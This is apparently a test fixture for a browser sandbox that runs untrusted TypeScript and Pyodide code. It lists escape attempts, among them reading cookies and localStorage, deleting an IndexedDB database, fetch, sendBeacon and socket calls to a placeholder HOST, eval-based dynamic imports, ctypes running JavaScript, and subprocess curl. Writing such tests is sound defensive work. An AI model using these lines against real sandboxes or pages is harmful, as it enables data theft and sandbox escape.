/** What a hostile program tries, one attempt a line; `HOST` and `SITE` are put in by the test. */

/** Bodies of async functions that return what they got, or throw. */
export const typescriptAttempts: Readonly<Record<string, string>> = {
  'cookies of the document': 'return document.cookie',
  'the cookie store': 'return await cookieStore.getAll()',
  localStorage: 'return localStorage.getItem("heapwise:language")',
  sessionStorage: 'return sessionStorage.length',
  indexedDB:
    'return await new Promise((yes, no) => { const open = indexedDB.open("site"); open.onsuccess = () => yes(open.result.name); open.onerror = () => no(open.error); })',
  'deleting a database':
    'return await new Promise((yes, no) => { const deletion = indexedDB.deleteDatabase("planted"); deletion.onsuccess = yes; deletion.onerror = () => no(deletion.error); })',
  caches: 'return await (await caches.open("heapwise-engines")).keys()',
  'the private file system': 'return await navigator.storage.getDirectory()',
  locks: 'return await navigator.locks.request("lock", () => "held")',
  fetch: 'return (await fetch("http://HOST/fetch", { mode: "no-cors" })).type',
  'fetch of the site': 'return await (await fetch("SITE/")).text()',
  'fetch with keepalive':
    'return (await fetch("http://HOST/keepalive", { method: "POST", body: "x", keepalive: true, mode: "no-cors" })).type',
  'fetch of a new Request': 'return (await fetch(new Request("http://HOST/request"))).status',
  XMLHttpRequest:
    'const request = new XMLHttpRequest(); request.open("GET", "http://HOST/xhr", false); request.send(); return request.responseText',
  WebSocket:
    'return await new Promise((yes, no) => { const socket = new WebSocket("ws://HOST/socket"); socket.onopen = yes; socket.onerror = () => no(new Error("error event")); })',
  WebSocketStream:
    'const stream = new WebSocketStream("ws://HOST/stream"); stream.closed.catch(() => {}); return await stream.opened',
  EventSource:
    'return await new Promise((yes, no) => { const source = new EventSource("http://HOST/events"); source.onopen = yes; source.onerror = () => no(new Error("error event")); })',
  WebTransport:
    'const transport = new WebTransport("https://HOST/transport"); transport.closed.catch(() => {}); return await transport.ready',
  importScripts: 'return importScripts("http://HOST/scripts")',
  'dynamic import': 'return await (0, eval)("import(\'http://HOST/import\')")',
  'dynamic import of the site': 'return await (0, eval)("import(\'SITE/pagefind/pagefind.js\')")',
  'dynamic import by Function':
    'return await Function("return import(\'http://HOST/function\')")()',
  'a font': 'return (await new FontFace("stolen", "url(http://HOST/font)").load()).family',
  sendBeacon: 'return navigator.sendBeacon("http://HOST/beacon", "x")',
  parent: 'return parent.document.title',
  top: 'return top.location.href',
  window: 'return window.name',
  opener: 'return opener.document',
  'a service worker': 'return await navigator.serviceWorker.register("SITE/sw.js")',
  'a nested worker': 'return new Worker("data:text/javascript,postMessage(1)")',
  'a nested worker of a prototype':
    'return new (Object.getPrototypeOf(globalThis).Worker)("data:text/javascript,")',
  'a shared worker': 'return new SharedWorker("data:text/javascript,")',
  'a broadcast': 'return new BroadcastChannel("heapwise").postMessage(1)',
  'the harness’s port': 'return globalThis.onmessage.name',
};

/** Expressions. */
export const pythonAttempts: Readonly<Record<string, string>> = {
  'js.fetch': '__import__("js").fetch("http://HOST/js-fetch")',
  'js.document': '__import__("js").document.cookie',
  'js.localStorage': '__import__("js").localStorage.getItem("heapwise:language")',
  'js.indexedDB': '__import__("js").indexedDB.open("site")',
  'js.caches': '__import__("js").caches.open("heapwise-engines")',
  'js.parent': '__import__("js").parent.document',
  'js.importScripts': '__import__("js").importScripts("http://HOST/js-scripts")',
  'js.Worker': '__import__("js").Worker.new("data:text/javascript,")',
  'js.XMLHttpRequest':
    '__import__("js").XMLHttpRequest.new().open("GET", "http://HOST/js-xhr", False)',
  'js.eval': '__import__("js").eval("import(\'http://HOST/js-import\')")',
  pyodide_js: '__import__("pyodide_js").loadPackage("http://HOST/package.whl")',
  'pyodide.code.run_js':
    '__import__("pyodide.code").code.run_js("fetch(\'http://HOST/run-js\', {mode: \'no-cors\'})")',
  _pyodide_core: '__import__("_pyodide_core")',
  'urllib.request': '__import__("urllib.request").request.urlopen("http://HOST/urllib").read()',
  'http.client':
    '(lambda c: (c.request("GET", "/http-client"), c.getresponse().read()))(__import__("http.client").client.HTTPConnection("HOST", timeout=2))',
  'pyodide.http.open_url': '__import__("pyodide.http").http.open_url("http://HOST/open-url")',
  'pyodide.http.pyfetch':
    '__import__("asyncio").run(__import__("pyodide.http").http.pyfetch("http://HOST/pyfetch"))',
  socket:
    '(lambda s, a: (s.settimeout(2), s.connect(a), s.send(b"GET /socket HTTP/1.0\\r\\n\\r\\n"), s.recv(1)))(__import__("socket").socket(), ("HOST".split(":")[0], int("HOST".split(":")[1])))',
  'ctypes, a library': '__import__("ctypes").CDLL("libc.so.6")',
  // The script does run, in the worker: the frame's policy is what stops it.
  'ctypes, JavaScript':
    '__import__("ctypes").pythonapi.emscripten_run_script(b"fetch(\'http://HOST/ctypes\', {mode: \'no-cors\'})") or 1 / 0',
  subprocess: '__import__("subprocess").run(["curl", "http://HOST/subprocess"])',
  'os.listdir of the host': '__import__("os").listdir("/work")',
  webbrowser: '__import__("webbrowser").open("http://HOST/webbrowser") or 1 / 0',
};
